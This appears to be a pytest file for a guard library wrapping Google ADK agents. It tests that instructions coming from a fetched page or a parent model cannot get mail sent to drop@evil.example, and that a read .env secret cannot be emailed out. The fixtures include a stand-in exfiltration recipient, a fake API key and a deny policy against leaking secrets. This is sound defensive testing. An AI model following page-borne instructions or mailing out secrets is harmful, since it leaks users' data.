"""Google ADK records the agent's instructions (as written) and the user's message as
trusted inputs (a real ``Runner`` loop, a scripted ``BaseLlm``, real function tools),
through :class:`InterlockPlugin` and through :func:`guard_agent`: the provenance pair
of :mod:`.provenance`. Adversarial: an ``AgentTool``'s run starts from a "user
message" the parent *model* wrote, after it read the page — not the user's words."""

from __future__ import annotations

import pytest

pytest.importorskip("google.adk")

from typing import Any

from google.adk.agents import LlmAgent
from google.adk.tools.agent_tool import AgentTool

from interlock import Guard
from interlock.adapters.google_adk import InterlockPlugin, guard_agent

from .provenance import CASES, PAGE, SYSTEM, guarded, trusted_inputs
from .test_google_adk import answer, calls, fake, make_runner, run


def _tools(ran: list[str]) -> list[Any]:
    def fetch_url(url: str) -> str:
        """Fetch a page."""
        ran.append("fetch_url")
        return PAGE

    def send_email(to: str, body: str) -> str:
        """Send a mail."""
        ran.append(f"send_email:{to}")
        return "sent"

    return [fetch_url, send_email]


def _agent(to: str, ran: list[str]) -> LlmAgent:
    model = fake(
        calls(("fetch_url", {"url": "https://blog.example"})),
        calls(("send_email", {"to": to, "body": "hi"})),
        answer("done"),
    )
    return LlmAgent(name="mail", model=model, instruction=SYSTEM, tools=_tools(ran))


def _run(guard: Guard, agent: LlmAgent, way: str, text: str) -> None:
    if way == "plugin":
        run(make_runner(agent, InterlockPlugin(guard)), "async", text)
    else:
        guard_agent(agent, guard, refusal="message")
        run(make_runner(agent), "async", text)


@pytest.mark.parametrize("way", ["plugin", "callbacks"])
@pytest.mark.parametrize(("to", "request_text", "sent"), CASES)
def test_a_page_recipient_is_refused_and_the_users_own_passes(
    way: str, to: str, request_text: str, sent: bool
) -> None:
    guard, history = guarded("adk-1")
    ran: list[str] = []
    _run(guard, _agent(to, ran), way, request_text)
    assert "fetch_url" in ran
    assert (f"send_email:{to}" in ran) is sent
    assert trusted_inputs(history, "adk-1") == 2  # instruction + user, each once


@pytest.mark.parametrize(
    ("request_text", "sent"),
    [("summarise https://blog.example", False), ("mail drop@evil.example a summary", True)],
)
def test_an_agent_tools_request_is_the_models_words_not_the_users(
    request_text: str, sent: bool
) -> None:
    guard, history = guarded("adk-2")
    ran: list[str] = []
    fetch_url, send_email = _tools(ran)
    helper = LlmAgent(
        name="mailer",
        model=fake(calls(("send_email", {"to": "drop@evil.example", "body": "hi"})), answer("ok")),
        instruction="You send mail.",
        tools=[send_email],
    )
    parent = LlmAgent(
        name="mail",
        model=fake(
            calls(("fetch_url", {"url": "https://blog.example"})),
            calls(("mailer", {"request": "mail drop@evil.example the summary"})),
            answer("done"),
        ),
        instruction=SYSTEM,
        tools=[fetch_url, AgentTool(helper)],
    )
    run(make_runner(parent, InterlockPlugin(guard)), "async", request_text)
    assert "fetch_url" in ran
    assert ("send_email:drop@evil.example" in ran) is sent
    # the parent's instruction and the user's message; nothing of the helper's run
    # (its request is the parent model's; its instruction is skipped with it: stricter)
    assert trusted_inputs(history, "adk-2") == 2


def test_a_guard_without_sessions_records_nothing() -> None:
    from interlock.policy import load_policy_text

    guard = Guard(load_policy_text("version: 1\ndefault: allow\n"))
    ran: list[str] = []
    _run(guard, _agent("alice@corp.example", ran), "plugin", "mail alice")
    assert ran == ["fetch_url", "send_email:alice@corp.example"]
    assert guard.sessions is None


SECRET_POLICY = """\
version: 1
default: allow
labels:
  - id: secrets-read
    attach: [secret]
    name: read_file
    params:
      path: {glob: ["**/.env"]}
rules:
  - id: no-leak
    decision: deny
    reason: data a secret read returned may not leave
    name: send_email
    session:
      flows_from: {labels: [secret]}
"""
KEY = "sk-live-9f8e7d6c5b4a39281706f5e4d3c2b1a0"


@pytest.mark.parametrize("way", ["plugin", "callbacks"])
@pytest.mark.parametrize(("body", "sent"), [(KEY, False), ("the report is ready", True)])
def test_a_slow_tool_still_settles_its_step(
    way: str, body: str, sent: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The guard keeps the newest ``_PENDING_KEPT`` steps waiting for their outcome
    (10,000; 5 here): a tool that runs while more calls are checked must still settle
    its own step when ADK reports it — its secret recorded, its leak refused."""
    import interlock.guard_sessions
    from interlock import Action, Context
    from interlock.policy import load_policy_text
    from interlock.session.history import MemoryHistory

    monkeypatch.setattr(interlock.guard_sessions, "_PENDING_KEPT", 5)
    guard = Guard(
        load_policy_text(SECRET_POLICY),
        context=Context(session_id="adk-slow"),
        sessions=MemoryHistory(),
    )
    ran: list[str] = []

    def read_file(path: str) -> str:
        """Read a file."""
        for i in range(8):  # other sessions' calls, checked while this one runs
            other = Action.tool("list_dir", {"path": "/tmp"}, context=Context(session_id=f"o{i}"))
            assert guard.check(other).allowed
        ran.append("read_file")
        return f"OPENAI_API_KEY={KEY}\n"

    def send_email(to: str, body: str) -> str:
        """Send a mail."""
        ran.append("send_email")
        return "sent"

    model = fake(
        calls(("read_file", {"path": "/srv/app/.env"})),
        calls(("send_email", {"to": "ops@corp.example", "body": body})),
        answer("done"),
    )
    agent = LlmAgent(name="files", model=model, instruction=SYSTEM, tools=[read_file, send_email])
    _run(guard, agent, way, "tidy up the config")
    assert "read_file" in ran
    assert ("send_email" in ran) is sent
